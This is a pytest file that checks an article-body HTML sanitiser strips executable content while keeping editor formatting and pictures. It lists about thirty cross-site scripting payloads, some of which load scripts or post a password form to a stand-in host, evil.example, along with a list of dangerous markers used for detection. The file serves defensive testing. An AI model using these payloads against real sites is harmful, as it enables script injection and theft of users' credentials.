"""A corpus of hostile HTML: nothing executable survives the body's sanitiser."""

import pytest

from articles.sanitize import sanitize_body

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0">overlay</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p onclick="alert(1)" onmouseover="alert(2)">text</p>',
    "<details open ontoggle=alert(1)>",
    '<base href="https://evil.example/">',
    "<!--<script>alert(1)</script>-->",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" alt="x" onload=alert(1)//',
    '<a href="https://ok.example" target="_blank" onfocus="alert(1)" autofocus>x</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

EXECUTABLE = [
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "ontoggle",
    "onfocus",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<style",
    "style=",
    "<link",
    "<meta",
    "<form",
    "<input",
    "<base",
    "<math",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_executable_survives(payload):
    cleaned = sanitize_body(payload).lower()
    for marker in EXECUTABLE:
        assert marker not in cleaned, f"{marker!r} survived in {cleaned!r}"


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitising_is_stable(payload):
    once = sanitize_body(payload)
    assert sanitize_body(once) == once


def test_the_editors_formatting_is_kept():
    html = (
        "<h2>Subheading</h2><p>Some <strong>bold</strong>, <em>italic</em> and "
        '<a href="https://example.org/report">a link</a>.</p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quoted</p></blockquote>"
        '<figure><img src="/media/images/a.jpg" alt="A harbour"><figcaption>Cap</figcaption>'
        "</figure>"
    )
    cleaned = sanitize_body(html)
    kept = ["<h2>", "<strong>", "<em>", "<ul>", "<ol>", "<blockquote>", "<figure>"]
    kept += ['href="https://example.org/report"', 'alt="A harbour"', "<figcaption>"]
    for fragment in kept:
        assert fragment in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_unknown_tags_are_unwrapped_not_kept():
    assert sanitize_body("<blink>hello</blink><marquee>there</marquee>") == "hellothere"


def test_the_body_is_sanitised_when_saved(editor):
    from tests.factories import article_create

    article = article_create(by=editor, body='<p onclick="x()">Fine</p><script>bad()</script>')
    article.refresh_from_db()
    assert article.body == "<p>Fine</p>"


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        # What typing over a selected picture used to leave, once per keystroke.
        ('<figure><img decoding="async" loading="lazy"></figure><p>a</p>', "<p>a</p>"),
        # Word's local picture: its file:/// address is not allowed, its box would stay.
        (
            '<p>x</p><img width="300" height="200" src="file:///C:/Users/a/clip_image001.png">',
            "<p>x</p>",
        ),
        ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="pasted">', ""),
        ('<img src="" alt="nothing">', ""),
        (
            "<figure><img><figcaption>The harbour at dawn</figcaption></figure>",
            "<p>The harbour at dawn</p>",
        ),
    ],
)
def test_no_picture_without_an_address_reaches_readers(html, kept):
    assert sanitize_body(html) == kept


def test_a_picture_with_its_figure_and_caption_is_kept():
    html = (
        '<figure><img src="/media/images/a.jpg" alt="Boats"><figcaption>Cap</figcaption></figure>'
    )
    cleaned = sanitize_body(html)
    assert cleaned.startswith('<figure><img src="/media/images/a.jpg" alt="Boats"')
    assert cleaned.endswith("<figcaption>Cap</figcaption></figure>")
